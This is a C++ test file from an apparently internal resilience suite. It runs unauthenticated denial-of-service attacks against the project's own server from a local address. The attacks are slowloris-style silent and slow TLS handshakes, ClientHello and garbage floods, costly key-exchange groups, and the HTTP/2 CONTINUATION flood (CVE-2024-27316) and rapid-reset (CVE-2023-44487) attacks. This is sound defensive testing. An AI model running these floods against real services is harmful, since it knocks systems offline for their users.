// Attacks that need no certificate, on any of the ports. They come from another
// address than the bystanders.

#include <openssl/ssl.h>
#include <sys/socket.h>
#include <sys/time.h>

#include <csignal>
#include <deque>
#include <functional>
#include <memory>
#include <string>
#include <utility>
#include <vector>

#include "absl/strings/str_cat.h"
#include "gtest/gtest.h"
#include "tests/hostile/attacks.h"
#include "tests/hostile/http2_connection.h"
#include "tests/support/raw_connection.h"

namespace fleetperf::testing {
namespace {

constexpr char kFrom[] = "127.0.0.2";

using TlsContext = std::unique_ptr<SSL_CTX, decltype(&SSL_CTX_free)>;
using Tls = std::unique_ptr<SSL, decltype(&SSL_free)>;

// Returns a client that offers `groups` for the key exchange.
TlsContext ClientOf(const char* groups) {
  TlsContext context(SSL_CTX_new(TLS_client_method()), SSL_CTX_free);
  EXPECT_EQ(SSL_CTX_set1_groups_list(context.get(), groups), 1) << groups;
  return context;
}

// Returns the first bytes of a handshake, with a key of the first group.
std::string HelloWith(const char* groups) {
  const TlsContext context = ClientOf(groups);
  const Tls ssl(SSL_new(context.get()), SSL_free);
  BIO* const sent = BIO_new(BIO_s_mem());
  SSL_set_bio(ssl.get(), BIO_new(BIO_s_mem()), sent);
  SSL_connect(ssl.get());
  char* data = nullptr;
  const long size = BIO_get_mem_data(sent, &data);
  return std::string(data, static_cast<size_t>(size));
}

// Connections that never begin their handshake.
void KeepSilent(int port, const Stop& stop) {
  constexpr size_t kOpen = 2000;
  std::deque<RawConnection> open;
  while (!stop()) {
    open.emplace_back(port, kFrom);
    if (open.size() > kOpen) open.pop_front();
  }
}

// Bytes that are no handshake.
void SendGarbage(int port, const Stop& stop) {
  const std::string garbage(16 << 10, '\x16');
  while (!stop()) {
    const RawConnection connection(port, kFrom);
    send(connection.fd(), garbage.data(), garbage.size(), MSG_NOSIGNAL);
  }
}

// Handshakes that cost the server much and the attacker nothing: always the
// same first bytes, and the next are never sent.
void RepeatHello(int port, const char* groups, const Stop& stop) {
  constexpr size_t kOpen = 100;
  const std::string hello = HelloWith(groups);
  std::deque<RawConnection> open;
  while (!stop()) {
    open.emplace_back(port, kFrom);
    send(open.back().fd(), hello.data(), hello.size(), MSG_NOSIGNAL);
    if (open.size() > kOpen) open.pop_front();
  }
}

// Handshakes whose bytes arrive one at a time.
void ShakeHandsSlowly(int port, const Stop& stop) {
  constexpr size_t kOpen = 300;
  const std::string hello = HelloWith("X25519:P-256");
  std::deque<std::pair<RawConnection, size_t>> open;
  while (!stop()) {
    if (open.size() == kOpen) open.pop_front();
    open.emplace_back(RawConnection(port, kFrom), 0);
    for (auto& [connection, sent] : open) {
      if (sent == hello.size() - 1) continue;
      send(connection.fd(), &hello[sent++], 1, MSG_NOSIGNAL);
    }
  }
}

// A key exchange that takes the server 200 ms is refused. Otherwise, this would
// be an attack.
void OfferCostlyGroups(int port, const Stop& stop) {
  constexpr const char* kGroups[] = {"ffdhe8192", "ffdhe2048", "P-521", "X448"};
  constexpr timeval kTimeout = {.tv_sec = 60};
  std::signal(SIGPIPE, SIG_IGN);
  do {
    for (const char* const groups : kGroups) {
      const TlsContext context = ClientOf(groups);
      const RawConnection connection(port, kFrom);
      setsockopt(connection.fd(), SOL_SOCKET, SO_RCVTIMEO, &kTimeout,
                 sizeof kTimeout);
      const Tls ssl(SSL_new(context.get()), SSL_free);
      SSL_set_fd(ssl.get(), connection.fd());
      EXPECT_NE(SSL_connect(ssl.get()), 1) << groups;
    }
  } while (!stop());
  RepeatHello(port, kGroups[0], stop);
}

// CVE-2024-27316 without a certificate: headers that never end.
void ContinueHeaders(int port, const Stop& stop) {
  const std::string fields(15'000, '\0');
  while (!stop()) {
    Http2Connection connection(port, std::string(kFrom));
    connection.Send(Frame(kHeadersFrame, 0, 1, ""));
    while (!stop() &&
           connection.Send(Frame(kContinuationFrame, 0, 1, fields))) {
    }
  }
}

// CVE-2023-44487 without a certificate.
void ResetRapidly(int port, const Stop& stop) {
  while (!stop()) {
    Http2Connection connection(port, std::string(kFrom));
    for (uint32_t stream = 1; !stop(); stream += 2) {
      if (!connection.Send(absl::StrCat(
              CallFrame(stream, kEnroll),
              Frame(kResetFrame, 0, stream, std::string("\0\0\0\x8", 4))))) {
        break;
      }
    }
  }
}

// Calls whose requests never come, and answers that are never read, on as many
// connections as there may be.
void HoldCalls(int port, const Stop& stop) {
  constexpr size_t kOpen = 300;
  // SETTINGS_INITIAL_WINDOW_SIZE is 0.
  const std::string settings("\0\4\0\0\0\0", 6);
  std::deque<Http2Connection> open;
  while (!stop()) {
    if (open.size() == kOpen) open.pop_front();
    open.emplace_back(port, std::string(kFrom), settings);
    for (uint32_t stream = 1; stream < 40; stream += 2) {
      open.back().Send(CallFrame(stream, kEnroll));
      if (stream % 4 == 1) open.back().Send(MessageFrame(stream, "\n\5token"));
    }
  }
}

}  // namespace

std::vector<Attack> StrangerAttacks(const std::string& prefix,
                                    int Target::*port) {
  const auto attack = [&](const char* name, auto run) {
    return Attack{prefix + name,
                  [port, run](const Target& target, const Stop& stop) {
                    run(target.*port, stop);
                  }};
  };
  return {attack("silent connections", KeepSilent),
          attack("garbage for a handshake", SendGarbage),
          attack("repeated hellos",
                 [](int to, const Stop& stop) {
                   RepeatHello(to, "X25519:P-256", stop);
                 }),
          attack("slow handshakes", ShakeHandsSlowly),
          attack("costly groups", OfferCostlyGroups)};
}

std::vector<Attack> EnrolmentAttacks() {
  auto attacks = StrangerAttacks("", &Target::enrolment_port);
  const auto add = [&](const char* name, auto run) {
    attacks.push_back({name, [run](const Target& target, const Stop& stop) {
                         run(target.enrolment_port, stop);
                       }});
  };
  add("endless headers", ContinueHeaders);
  add("rapid reset", ResetRapidly);
  add("calls held", HoldCalls);
  return attacks;
}

}  // namespace fleetperf::testing
